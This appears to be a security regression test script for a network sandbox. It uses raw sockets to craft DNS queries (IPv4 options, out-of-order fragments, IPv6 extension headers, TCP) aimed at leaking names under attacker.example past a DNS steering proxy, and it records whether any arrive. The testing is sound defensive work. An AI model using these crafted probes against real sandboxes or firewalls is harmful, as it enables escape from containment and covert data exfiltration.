#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
# Attack: DNS queries to port 53 that the steering might miss, to a server the
# policy allows by address with any protocol (the worst case: only the
# steering stands between the sandbox and that server's port 53). Crafted
# with raw sockets: IPv4 with options, IPv4 fragments, IPv6 with hop-by-hop /
# destination options / routing (segments left 0), IPv6 fragments, an atomic
# fragment, a chain of extension headers, TCP. Every probe asks leakN.attacker.example.
# Counted where they land: a listener on 203.0.113.53:53 / [2001:db8::53]:53
# (UDP and TCP) in the jail, which logs the names it got.
# Control: the same probes with the same address rules and no DNS proxy.
set -u
. "$(dirname "$0")/rt_lib.sh"
vr_init dig dnsmasq
rt_jail 203.0.113.53 2001:db8::53 203.0.113.10
vr_dns_upstream "$jail" 10.233.1.1 --host-record=api.example.test,203.0.113.10
cat >"$VR_TMP/listen.py" <<'PY'
import socket, sys, threading, time
log = open(sys.argv[1], "a", buffering=1)
def udp(fam, addr):
    s = socket.socket(fam, socket.SOCK_DGRAM); s.bind((addr, 53))
    while True:
        d, a = s.recvfrom(65535); log.write("udp %s %r\n" % (a[0], d[12:60]))
def tcp(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 53)); s.listen(16)
    while True:
        c, a = s.accept(); c.settimeout(1)
        try: d = c.recv(4096)
        except OSError: d = b""
        log.write("tcp %s %r\n" % (a[0], d[14:62])); c.close()
for f, a in ((socket.AF_INET, "203.0.113.53"), (socket.AF_INET6, "2001:db8::53")):
    for fn in (udp, tcp):
        threading.Thread(target=fn, args=(f, a), daemon=True).start()
open(sys.argv[2], "w").close(); time.sleep(200)
PY
ip netns exec "$jail" "$VR_PY" "$VR_TMP/listen.py" "$VR_TMP/arrived" "$VR_TMP/listen.ready" & vr_pids+=($!)
vr_wait_for 3 test -e "$VR_TMP/listen.ready" || vr_fatal listener

cat >"$VR_TMP/probe.py" <<'PY'
import socket, struct, sys, os, time
tag = sys.argv[1]
S4, D4 = "10.233.1.2", "203.0.113.53"
S6, D6 = "fd00:233:1::2", "2001:db8::53"
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff
def query(name):
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
def udp(src, dst, fam, payload, sport=40000):
    ln = 8 + len(payload)
    a = socket.inet_pton(fam, src) + socket.inet_pton(fam, dst)
    ph = a + (struct.pack("!BBH", 0, 17, ln) if fam == socket.AF_INET else struct.pack("!IxxxB", ln, 17))
    h = struct.pack("!HHHH", sport, 53, ln, 0)
    c = csum(ph + h + payload) or 0xffff
    return struct.pack("!HHHH", sport, 53, ln, c) + payload
def ip4(payload, opts=b"", frag=0, ident=0x4242, proto=17):
    ihl = 5 + len(opts) // 4
    h = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(payload), ident, frag, 64, proto, 0,
                    socket.inet_aton(S4), socket.inet_aton(D4)) + opts
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload
def ip6(nh, payload):
    return struct.pack("!IHBB", 0x60000000, len(payload), nh, 64) + socket.inet_pton(
        socket.AF_INET6, S6) + socket.inet_pton(socket.AF_INET6, D6) + payload
def ext(nh, body=b"\0" * 6):  # hop-by-hop / destination options: PadN
    return struct.pack("!BB", nh, 0) + b"\x01\x04\0\0\0\0"
r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
def send4(pkt): r4.sendto(pkt, (D4, 0))
def send6(pkt): r6.sendto(pkt, (D6, 0))
sent = []
def probe(name, fn):
    sent.append(name); fn("%s-%s.attacker.example" % (tag, name)); time.sleep(0.05)
# 1 plain UDP, both families (kernel sockets)
def plain4(n): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query(n), (D4, 53))
def plain6(n): socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(query(n), (D6, 53))
probe("plain4", plain4); probe("plain6", plain6)
# 2 IPv4 options: NOPs + a timestamp option's shape (no source route)
probe("opts4", lambda n: send4(ip4(udp(S4, D4, socket.AF_INET, query(n)), opts=b"\x01\x01\x01\x00")))
# 3 IPv4 fragments: the UDP header in the first, the rest later
def frag4(n):
    d = udp(S4, D4, socket.AF_INET, query(n)); cut = 16
    send4(ip4(d[:cut], frag=0x2000, ident=0x4343)); send4(ip4(d[cut:], frag=cut // 8, ident=0x4343))
probe("frag4", frag4)
# 3b IPv4 fragments sent later-first
def frag4r(n):
    d = udp(S4, D4, socket.AF_INET, query(n)); cut = 16
    send4(ip4(d[cut:], frag=cut // 8, ident=0x4444)); send4(ip4(d[:cut], frag=0x2000, ident=0x4444))
probe("frag4rev", frag4r)
# 4 IPv6 extension headers: hop-by-hop, destination options, routing type 0 segleft 0
probe("hbh6", lambda n: send6(ip6(0, ext(17) + udp(S6, D6, socket.AF_INET6, query(n)))))
probe("dst6", lambda n: send6(ip6(60, ext(17) + udp(S6, D6, socket.AF_INET6, query(n)))))
probe("chain6", lambda n: send6(ip6(0, ext(60) + ext(43) +
      struct.pack("!BBBB", 17, 0, 253, 0) + b"\0" * 4 + udp(S6, D6, socket.AF_INET6, query(n)))))
# 5 IPv6 fragments: first (UDP header) and the rest; atomic fragment
def frag6(n, ident=0x5151):
    d = udp(S6, D6, socket.AF_INET6, query(n)); cut = 16
    send6(ip6(44, struct.pack("!BxHI", 17, 0 | 1, ident) + d[:cut]))
    send6(ip6(44, struct.pack("!BxHI", 17, (cut // 8) << 3, ident) + d[cut:]))
probe("frag6", frag6)
def frag6r(n, ident=0x5252):
    d = udp(S6, D6, socket.AF_INET6, query(n)); cut = 16
    send6(ip6(44, struct.pack("!BxHI", 17, (cut // 8) << 3, ident) + d[cut:]))
    send6(ip6(44, struct.pack("!BxHI", 17, 0 | 1, ident) + d[:cut]))
probe("frag6rev", frag6r)
probe("atomic6", lambda n: send6(ip6(44, struct.pack("!BxHI", 17, 0, 0x5353) + udp(S6, D6, socket.AF_INET6, query(n)))))
# 5b the UDP header behind a destination-options header inside the fragment
def frag6dst(n, ident=0x5454):
    d = ext(17) + udp(S6, D6, socket.AF_INET6, query(n)); cut = 8
    send6(ip6(44, struct.pack("!BxHI", 60, 0 | 1, ident) + d[:cut]))
    send6(ip6(44, struct.pack("!BxHI", 60, (cut // 8) << 3, ident) + d[cut:]))
probe("frag6dst", frag6dst)
# 6 TCP, both families
def tcp(fam, dst):
    def go(n):
        try:
            s = socket.create_connection((dst, 53), timeout=1); q = query(n)
            s.sendall(struct.pack("!H", len(q)) + q); s.recv(10)
        except OSError: pass
    return go
probe("tcp4", tcp(socket.AF_INET, D4)); probe("tcp6", tcp(socket.AF_INET6, D6))
print(" ".join(sent))
PY
run_probes() { # TAG: the probes' names that arrived, sorted
	ip netns exec "$sbx" "$VR_PY" "$VR_TMP/probe.py" "$1" >"$VR_TMP/sent.$1"
	sleep 1.5
	grep -ao "$1-[a-z0-9]*" "$VR_TMP/arrived" | sed "s/^$1-//" | sort -u | tr '\n' ' '
}
expect "control: attach, address rules only, no DNS proxy" vj attach vrj --policy "$(vr_policy c '{"default": "deny",
	"allow": ["203.0.113.53", "[2001:db8::53]"]}')"
ctl=$(run_probes zctl)
echo "# control: sent $(cat "$VR_TMP/sent.zctl")"
echo "# control: arrived $ctl"
# every probe but three arrives when nothing steers; those three the fragment
# rules drop with or without the proxy: later fragments before their first
# (frag4rev, frag6rev) and a first fragment whose transport header does not
# follow its fragment header (frag6dst)
expect_eq "control: the probes arrive when nothing steers" "$ctl" \
	"$(tr ' ' '\n' <"$VR_TMP/sent.zctl" | grep -vx 'frag4rev\|frag6rev\|frag6dst' | grep . |
		sort -u | tr '\n' ' ')"
expect "attack: apply the same rules plus a name (DNS proxy)" vj apply vrj --policy "$(vr_policy a '{"default": "deny",
	"allow": ["203.0.113.53", "[2001:db8::53]", "api.example.test:443/tcp"]}')"
rt_proxy
expect_lookup "the proxy answers" 203.0.113.10 203.0.113.53 api.example.test A
att=$(run_probes zatt)
echo "# attack: arrived '$att'"
expect_eq "attack: probes that reached the server's port 53 past the proxy" "$att" ""
steered=$(grep -c '"name":"zatt' "$VR_TMP/proxy.log")
echo "# the proxy got $steered of them (refused)"
if [ -n "$att" ]; then
	rt_result steer_bypass LEAKS "arrived at 203.0.113.53:53 / [2001:db8::53]:53: $att (control: $ctl)"
else
	rt_result steer_bypass HOLDS "none arrived (control: $ctl); the proxy refused $steered"
fi
echo "$vr_passed passed, $vr_failed failed"
